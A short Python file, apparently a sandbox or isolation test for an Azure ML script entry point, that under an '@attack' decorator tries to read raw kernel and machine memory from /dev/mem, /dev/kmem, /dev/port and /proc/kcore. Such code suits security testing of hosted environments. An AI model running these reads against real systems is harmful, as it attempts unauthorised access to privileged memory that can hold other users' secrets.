"""Reads the memory of the kernel and of the whole machine."""

from attack import attack, every, read


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    return every(lambda path: read(path, 64), ["/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore"])
